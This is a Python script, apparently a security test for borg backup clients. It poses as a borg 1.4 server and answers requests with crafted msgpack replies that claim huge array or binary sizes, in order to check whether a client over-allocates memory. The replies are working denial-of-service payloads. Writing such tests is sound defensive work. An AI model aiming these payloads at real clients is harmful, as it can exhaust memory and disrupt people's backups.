"""A hostile `borg serve`: answers `negotiate` and `open` as borg 1.4 does, then answers every
other request with one crafted reply, to test that a client bounds what it allocates by what
it received. Run with the Python of borg's venv (it has msgpack).

    hostile_serve.py ATTACK

ATTACK: `nils` (an array header claiming 64 Mi elements, followed by all of them: 64 MiB of
nils, which a client that reserves 32 bytes per claimed element turns into a 2 GiB
allocation), `budget` (16 Mi nils in a reply small enough to be read: more values than any
message holds), `bin` (a bin32 header claiming 4 GiB, then silence).
"""
import os
import sys

import msgpack

ATTACK = sys.argv[1] if len(sys.argv) > 1 else "nils"


def reply(msgid, body):
    os.write(1, b"\x82\xa1i" + msgpack.packb(msgid) + b"\xa1r" + body)


def nils(count):
    return b"\xdd" + count.to_bytes(4, "big") + b"\xc0" * count


unpacker = msgpack.Unpacker(raw=True)
while True:
    data = os.read(0, 65536)
    if not data:
        break
    unpacker.feed(data)
    for request in unpacker:
        msgid, method = request[b"i"], request[b"m"]
        if method == b"negotiate":
            reply(msgid, msgpack.packb({b"server_version": (1, 4, 5, -1)}))
        elif method == b"open":
            reply(msgid, msgpack.packb(b"\x11" * 32, use_bin_type=True))
        elif ATTACK == "nils":
            reply(msgid, nils(64 << 20))
        elif ATTACK == "budget":
            reply(msgid, nils(16 << 20))
        else:
            os.write(1, b"\x82\xa1i" + msgpack.packb(msgid) + b"\xa1r\xc6\xff\xff\xff\xff")
